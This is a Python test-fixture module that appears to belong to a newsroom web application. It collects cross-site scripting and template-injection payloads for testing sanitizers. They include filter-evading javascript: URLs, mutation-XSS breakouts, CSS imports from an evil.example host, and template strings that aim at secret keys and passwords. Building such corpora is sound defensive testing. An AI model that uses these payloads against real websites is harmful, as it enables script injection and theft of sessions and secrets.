"""
A hostile-input corpus: markup and text an attacker (or a careless paste)
could put into any field the newsroom shows.

Each payload is there because a browser, a sanitizer or a template reads it
differently from what a naive check expects: scripts hidden behind entities
and control characters, elements whose content parses as text in one
context and as markup in another, strings that close the attribute or
element they are printed in. Every one is short enough for the smallest
text column it is stored in (80 characters, `Organization.short_name`);
`fit()` trims the rare longer one for its column.

`PAYLOADS` maps a readable id (for test ids and failure messages) to the
text. `HOSTILE_URLS` are values for URL fields, which must be refused or
kept only as harmless web addresses.
"""

# Event handler attributes, on ordinary and exotic elements.
EVENT_HANDLERS = {
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-uppercase": "<IMG SRC=x ONERROR=alert(1)>",
    "p-onclick": '<p onclick="alert(1)">Tap the paragraph</p>',
    "body-onload": "<body onload=alert(1)>Body text",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>More</summary></details>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "a-onmouseover": '<a href="https://example.com/" onmouseover="alert(1)">Hover</a>',
    "slash-separated-handler": "<div/onpointerenter=alert(1)>Point here</div>",
    "video-source-onerror": '<video><source onerror="alert(1)"></video>',
    "marquee-onstart": "<marquee onstart=alert(1)>Breaking</marquee>",
    "handler-without-quotes-or-space": "<p/onclick=alert`1`>Quoteless</p>",
}

# Script URLs, hidden from naive scheme checks by case, entities and control characters.
SCRIPT_URLS = {
    "javascript-href": '<a href="javascript:alert(1)">Link</a>',
    "javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">Link</a>',
    "javascript-hex-entity": '<a href="&#x6A;avascript:alert(1)">Link</a>',
    "javascript-decimal-entities": (
        "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)>L</a>"
    ),
    "javascript-padded-entity": '<a href="&#0000106avascript:alert(1)">Link</a>',
    "javascript-tab-entity": '<a href="java&#x09;script:alert(1)">Link</a>',
    "javascript-literal-tab": '<a href="java\tscript:alert(1)">Link</a>',
    "javascript-literal-newline": '<a href="java\nscript:alert(1)">Link</a>',
    "javascript-nul": '<a href="java\x00script:alert(1)">Link</a>',
    "javascript-leading-controls": '<a href="\x01\x02 javascript:alert(1)">Link</a>',
    "javascript-colon-entity": '<a href="javascript&colon;alert(1)">Link</a>',
    "javascript-newline-entity": '<a href="jav&NewLine;ascript&colon;alert(1)">Link</a>',
    "javascript-hex-colon": '<a href="javascript&#x3A;alert(1)">Link</a>',
    "javascript-comment-body": '<a href="javascript://example.com/%0Aalert(1)">Link</a>',
    "vbscript-href": '<a href="vbscript:msgbox(1)">Link</a>',
    "data-html-base64": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">L</a>'
    ),
    "data-html-inline": '<a href="data:text/html,<script>alert(1)</script>">Link</a>',
    "data-svg-img": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "javascript-bare-text": "javascript:alert(document.cookie)",
}

# SVG and MathML: foreign content with its own links, scripts and animation.
FOREIGN_CONTENT = {
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-xlink-href": '<svg><a xlink:href="javascript:alert(1)"><text y="20">Tap</text></a></svg>',
    "svg-animate-href": "<svg><a><animate attributeName=href to=javascript:alert(1) />x</a></svg>",
    "svg-set-handler": '<svg><set attributeName="onmouseover" to="alert(1)" /></svg>',
    "svg-use-data": '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x" /></svg>',
    "svg-foreign-iframe": "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "math-maction": '<math><maction xlink:href="javascript:alert(1)">Tap</maction></math>',
}

# Elements that embed another document.
EMBEDDING = {
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "embed-data": '<embed src="data:text/html,<script>alert(1)</script>">',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
}

# Style: old script-running CSS, and stylesheets from elsewhere.
STYLE = {
    "style-expression": '<p style="width:expression(alert(1))">Old IE</p>',
    "style-url-javascript": '<div style="background:url(javascript:alert(1))">Box</div>',
    "style-escaped-expression": '<div style="x:\\65 xpression(alert(1))">Escaped</div>',
    "style-entity-quoted-url": '<p style="background:url(&quot;javascript:alert(1)&quot;)">x</p>',
    "style-moz-binding": '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
    "style-behavior": '<p style="behavior:url(https://evil.example/x.htc)">x</p>',
    "style-element-import": '<style>@import "https://evil.example/x.css";</style>',
    "style-element-url": '<style>body{background:url("javascript:alert(1)")}</style>',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
}

# Elements that change where the page goes or where relative links point.
NAVIGATION = {
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="https://evil.example/">',
    "form-action": '<form action="javascript:alert(1)"><button>Go</button></form>',
    "button-formaction": '<form><button formaction="javascript:alert(1)">Go</button></form>',
    "isindex-action": "<isindex action=javascript:alert(1) type=submit>",
}

# Markup that parses differently once sanitized and parsed again (mutation XSS),
# or that closes the element it is printed in.
BREAKOUTS = {
    "close-paragraph-script": "</p><script>alert(1)</script><p>",
    "noscript-title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "close-title": "</title><script>alert(1)</script>",
    "close-textarea": "</textarea><script>alert(1)</script>",
    "close-script": "</script><script>alert(1)</script>",
    "close-style": "</style><img src=x onerror=alert(1)>",
    "comment-confusion": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "split-script-tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "math-style-namespace": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "svg-style-namespace": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "cdata-script": "<![CDATA[<script>alert(1)</script>]]>",
    "xmp-title": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "nested-links": '<a href="https://example.com/"><a href="javascript:alert(1)">In</a></a>',
    "html-comment-close": "--><script>alert(1)</script><!--",
}

# Strings meant for a template engine or a JavaScript framework, not HTML.
TEMPLATE_INJECTION = {
    "django-secret-key": "{{ settings.SECRET_KEY }}",
    "django-debug-tag": "{% debug %}",
    "django-load-tag": "{% load static %}{% get_static_prefix %}",
    "django-user-password": "{{ request.user.password }}",
    "angular-constructor": "{{constructor.constructor('alert(1)')()}}",
    "js-template-literal": "${alert(document.domain)}",
}

# Text that closes the attribute it is printed into.
ATTRIBUTE_BREAKOUTS = {
    "double-quote-handler": '" onmouseover="alert(1)',
    "single-quote-autofocus": "' onfocus='alert(1)' autofocus='",
    "double-quote-script": '"><script>alert(1)</script>',
    "single-quote-img": "'><img src=x onerror=alert(1)>",
    "unquoted-autofocus": "x autofocus onfocus=alert(1) x=",
    "backtick-handler": "` onmouseover=alert(1) `",
    "self-closing-svg": '"/><svg/onload=alert(1)>',
}

# Characters that look like markup, or turn into it after one more decoding.
UNICODE_TRICKS = {
    "fullwidth-brackets": "＜script＞alert(1)＜/script＞",
    "escaped-unicode-brackets": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "pre-escaped-entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "percent-encoded": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "long-s-script": "<ſcript>alert(1)</ſcript>",
    "line-separator-url": '<a href="javascript\u2028:alert(1)">Link</a>',
    "right-to-left-override": "Invoice \u202egpj.exe",
    "byte-order-mark-script": "\ufeff<script>alert(1)</script>",
    "zero-width-javascript": '<a href="java\u200bscript:alert(1)">Link</a>',
}

CATEGORIES = {
    "event handlers": EVENT_HANDLERS,
    "script URLs": SCRIPT_URLS,
    "SVG and MathML": FOREIGN_CONTENT,
    "embedding": EMBEDDING,
    "style": STYLE,
    "navigation": NAVIGATION,
    "breakouts": BREAKOUTS,
    "template injection": TEMPLATE_INJECTION,
    "attribute breakouts": ATTRIBUTE_BREAKOUTS,
    "unicode tricks": UNICODE_TRICKS,
}

PAYLOADS = {name: text for group in CATEGORIES.values() for name, text in group.items()}

assert len(PAYLOADS) == sum(map(len, CATEGORIES.values())), "payload ids must be unique"

# Harmless even printed unescaped into a page, as text or into an attribute:
# they aim at a template engine or a front-end framework, at a second decoding
# (entities, percent-encoding, look-alike characters), at a filter that
# strips once, or are a script address as mere text. The pages still get
# them in every field; the checker is expected to pass them when raw.
INERT_AS_MARKUP = frozenset(
    {
        "javascript-bare-text",
        "split-script-tag",
        "cdata-script",
        *TEMPLATE_INJECTION,
        "fullwidth-brackets",
        "escaped-unicode-brackets",
        "pre-escaped-entities",
        "percent-encoded",
        "long-s-script",
        "line-separator-url",
        "right-to-left-override",
        "zero-width-javascript",
    }
)

# Values for URL fields (websites, sources, canonical addresses).
HOSTILE_URLS = {
    "javascript": "javascript:alert(1)",
    "javascript-uppercase": "JAVASCRIPT:alert(1)",
    "javascript-leading-space": "  javascript:alert(1)",
    "javascript-tab": "java\tscript:alert(1)",
    "javascript-newline": "java\nscript:alert(1)",
    "javascript-control": "\x01javascript:alert(1)",
    "javascript-comment-body": "javascript://example.com/%0Aalert(1)",
    "javascript-entity": "&#x6A;avascript:alert(1)",
    "javascript-colon-entity": "javascript&colon;alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data-html": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-inline": "data:text/html,<script>alert(1)</script>",
    "protocol-relative": "//evil.example/x",
    "quote-breakout": 'https://example.com/"><script>alert(1)</script>',
    "handler-breakout": "https://example.com/' onmouseover='alert(1)",
}


def fit(model, field_name, text):
    """`text` trimmed to what the column holds, so every backend stores it as given."""
    max_length = model._meta.get_field(field_name).max_length
    return text[:max_length] if max_length else text
